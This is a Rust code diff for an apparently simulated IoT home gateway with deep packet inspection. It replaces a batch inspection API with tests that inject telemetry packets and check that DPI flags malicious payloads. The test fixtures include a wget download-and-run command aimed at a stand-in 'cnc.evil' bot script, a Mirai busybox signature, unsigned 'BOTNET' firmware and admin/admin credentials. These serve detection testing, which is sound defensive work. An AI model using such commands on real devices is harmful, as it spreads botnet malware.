@@ -348,9 +348,9 @@ impl XlfGateway {
             .or_insert_with(|| EncryptedDpi::new(kit.dpi_session(device)).with_bus(bus.clone()))
     }
 
-    fn scan_payload(&mut self, device: &Rc<str>, payload: &[u8], now: SimTime) -> bool {
+    fn scan_payload(&mut self, device: &Rc<str>, payload: &[u8], now: SimTime) {
         if !self.config.dpi || payload.is_empty() {
-            return false;
+            return;
         }
         let mut tokens = std::mem::take(&mut self.tokens);
         let mut firsts = std::mem::take(&mut self.dpi_firsts);
@@ -361,28 +361,9 @@ impl XlfGateway {
             .session()
             .tokenizer()
             .tokenize_into(payload, &mut tokens);
-        let hit = !middlebox
-            .inspect(device, &tokens, &mut firsts, now)
-            .is_empty();
+        middlebox.inspect(device, &tokens, &mut firsts, now);
         self.tokens = tokens;
         self.dpi_firsts = firsts;
-        hit
-    }
-
-    /// Batched DPI entry point: tokenizes and inspects a burst of payloads
-    /// from one device, reusing the gateway's token buffer. Returns, per
-    /// payload, whether any rule matched — exactly what the per-packet
-    /// DPI scan answers for each, with identical evidence and counters.
-    /// Empty payloads are skipped, as in the per-packet path.
-    pub fn inspect_batch(&mut self, device: &str, payloads: &[&[u8]], now: SimTime) -> Vec<bool> {
-        let device = match self.devices.get_key_value(device) {
-            Some((name, _)) => Rc::clone(name),
-            None => Rc::from(device),
-        };
-        payloads
-            .iter()
-            .map(|payload| self.scan_payload(&device, payload, now))
-            .collect()
     }
 
     fn handle_upstream(&mut self, ctx: &mut Context<'_>, mut packet: Packet, device: &Rc<str>) {
@@ -1303,19 +1284,42 @@ mod tests {
         );
     }
 
+    /// Sends `payload` from `device` to the gateway as telemetry, the way
+    /// the device's own uplink does, and runs the home for a second.
+    /// Returns whether the gateway's DPI counted a new match for it.
+    fn upstream_hits(home: &mut XlfHome, device: &str, payload: &[u8]) -> bool {
+        let matches = |home: &XlfHome| {
+            home.gateway_ref()
+                .dpi
+                .get(device)
+                .map_or(0, |m| m.stats.matches)
+        };
+        let before = matches(home);
+        let (node, gateway) = (home.devices[device], home.gateway);
+        let body = Body::Telemetry {
+            device: device.into(),
+            state: "idle",
+        };
+        let packet = Packet::new(node, gateway, body, payload.to_vec());
+        home.net.inject(node, gateway, packet);
+        let end = home.net.now() + Duration::from_secs(1);
+        home.net.run_until(end);
+        matches(home) > before
+    }
+
     #[test]
-    fn gateway_batch_inspection_flags_malicious_payloads() {
+    fn gateway_dpi_flags_malicious_upstream_payloads() {
         let mut home = basic_home(XlfConfig::full());
         home.net.run_until(SimTime::from_secs(5));
-        let gateway = home.net.node_as_mut::<XlfGateway>(home.gateway).unwrap();
-        let payloads: Vec<&[u8]> = vec![
+        let payloads: [&[u8]; 4] = [
             b"benign telemetry",
             b"wget${IFS}http://cnc.evil/bot.sh",
             b"",
             b"/bin/busybox MIRAI",
         ];
-        let flags = gateway.inspect_batch("cam", &payloads, SimTime::from_secs(5));
-        assert_eq!(flags, vec![false, true, false, true]);
+        let hits = payloads.map(|payload| upstream_hits(&mut home, "cam", payload));
+        assert_eq!(hits, [false, true, false, true]);
+        assert_eq!(home.gateway_ref().dpi["cam"].stats.matches, 2);
     }
 
     #[test]
@@ -1547,11 +1551,9 @@ mod tests {
         // unsigned firmware) installs; then the operator quarantines it,
         // lets it resolve a new name, trusts a new vendor and installs a
         // second app in the cloud.
-        let now = SimTime::from_secs(30);
-        let gateway = attacked.net.node_as_mut::<XlfGateway>(attacked.gateway);
         let payloads: [&[u8]; 2] = [b"wget${IFS}http://cnc.evil/bot.sh", b"/bin/busybox MIRAI"];
-        let hits = gateway.unwrap().inspect_batch("cam", &payloads, now);
-        assert_eq!(hits, vec![true, true]);
+        let hits = payloads.map(|payload| upstream_hits(&mut attacked, "cam", payload));
+        assert_eq!(hits, [true, true]);
         let evil = FirmwareImage::unsigned(Version(9, 9, 9), "mallory", b"BOTNET".to_vec());
         let (gw, cam) = (attacked.gateway, attacked.devices["cam"]);
         let (device, user, pass) = (None, "admin", "admin");
